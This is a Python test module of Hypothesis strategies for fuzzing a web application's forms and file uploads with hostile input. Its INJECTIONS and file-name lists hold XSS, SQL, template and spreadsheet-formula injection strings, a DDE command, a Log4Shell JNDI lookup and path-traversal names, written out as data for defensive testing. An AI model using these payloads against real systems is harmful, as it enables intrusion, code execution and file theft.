"""Hypothesis strategies for hostile input: form values, query strings, uploads."""
from __future__ import annotations

import io
import zipfile

from hypothesis import strategies as st
from PIL import Image

from tests.workflow_helpers import tiny_pdf

INJECTIONS = [
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}", "{% raw %}", "' OR 1=1 --",
    '=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "\r=1",
    "javascript:alert(1)", "../../etc/passwd", "%00", "${jndi:ldap://x}", "\u202egnp.exe", "ﷺ" * 50,
]
# Text a form field might be sent: anything printable or not, long, NUL, the injections.
# One past the common column and field limits (VARCHAR(32), (40), (200), (254), (300), (500), Length(max=…)).
LIMIT_CROSSINGS = (33, 41, 101, 201, 255, 301, 501, 1001, 2001, 4001, 5001, 8001, 20_001, 60_000)
overlong = st.tuples(st.sampled_from(LIMIT_CROSSINGS), st.sampled_from(["x", "é", "😀", "<b>"])).map(
    lambda t: (t[1] * t[0])[:t[0]] if len(t[1]) > 1 else t[1] * t[0])
text = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=400),
    st.sampled_from(INJECTIONS),
    overlong,
    st.text(max_size=10).map(lambda s: s + "\x00" + s),
)
# Values every field of every form is tried with, one field at a time (besides the generated ones):
# past any length limit, a list whose stored form ("A, A, …") outgrows what was typed, a number past
# any integer column.
SWEEP = ("x" * 60_000, "a," * 250, "9" * 40)
# ... and date fields with the calendar's ends, number fields with the edges of floats and integers.
DAY_EXTREMES = ("9999-12-31", "0001-01-01")
NUMBER_EXTREMES = ("-0.5", "1e308", "nan", "2147483648")
number = st.one_of(
    st.integers().map(str),
    st.integers(min_value=-3, max_value=300).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.decimals(allow_nan=False, allow_infinity=False, places=3).map(str),
    st.sampled_from(["", " ", "-0", "1e400", "-1e400", "0x10", "½", "٣", "1_000", " 2.5 ", "NaN", "inf",
                     "9" * 40, "-" + "9" * 40, "2.25", "0.5", "1,5"]),
    text,
)
day = st.one_of(
    st.dates().map(lambda d: d.isoformat()),
    st.sampled_from(["2026-02-30", "0000-01-01", "9999-12-31", "-1-01-01", "2026-13-01", "2026-1-1", "01/02/2026",
                     "", "today", "2026-06-30T00:00:00"]),
    text,
)
flag = st.one_of(st.sampled_from(["y", "n", "on", "", "1", "0", "true"]), text)


def maybe(strategy: st.SearchStrategy) -> st.SearchStrategy:
    """A field that may also be left out of the request altogether."""
    return st.one_of(st.none(), strategy)


def form(**fields: st.SearchStrategy) -> st.SearchStrategy:
    """A form body: each field present with a hostile value, or missing."""
    return st.fixed_dictionaries({k: maybe(v) for k, v in fields.items()}).map(
        lambda d: {k: v for k, v in d.items() if v is not None})


# --- uploads -----------------------------------------------------------------

def _image(fmt: str) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buf, fmt)
    return buf.getvalue()


def _docx() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')
        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats'
                    '.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Record</w:t></w:r></w:p></w:body>'
                    "</w:document>")
    return buf.getvalue()


SAMPLES = {"pdf": tiny_pdf("Instructor record"), "png": _image("PNG"), "jpeg": _image("JPEG"), "docx": _docx()}
_sample = st.sampled_from(sorted(SAMPLES.values()))


def _flip(data: bytes, at: int, byte: int) -> bytes:
    at %= len(data)
    return data[:at] + bytes([byte]) + data[at + 1:]


contents = st.one_of(
    _sample,                                                                            # whole and valid
    st.binary(max_size=2048),                                                          # noise
    st.builds(lambda s, cut: s[:cut], _sample, st.integers(min_value=0, max_value=4000)),  # truncated
    st.builds(lambda s, junk: s + junk, _sample, st.binary(min_size=1, max_size=300)),    # something appended
    st.builds(lambda s, junk: junk + s, _sample, st.binary(min_size=1, max_size=16)),     # something before
    st.builds(_flip, _sample, st.integers(min_value=0), st.integers(min_value=0, max_value=255)),  # one byte off
    st.builds(lambda s: b"<html><script>alert(1)</script></html>" + s, _sample),          # polyglot attempt
)
file_names = st.one_of(
    st.sampled_from(["record.pdf", "certificate.png", "scan.jpg", "cv.docx", "", ".", "..", "../../../etc/passwd",
                     "..\\..\\boot.ini", "C:\\Users\\x\\cv.pdf", "cert\u202efdp.exe", "a\x00b.pdf", "new\nline.pdf",
                     "tab\there.pdf", "quote\".pdf", "semi;colon.pdf", "con.pdf", "résumé ✓.pdf", "证书.png",
                     "x" * 400 + ".pdf", "<script>.pdf", "%2e%2e%2fsecret.pdf", "file.pdf.exe", " .pdf"]),
    st.text(max_size=60).map(lambda s: s + ".pdf"),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=120),
    st.lists(st.text(max_size=8), min_size=2, max_size=4).map("/".join),
)
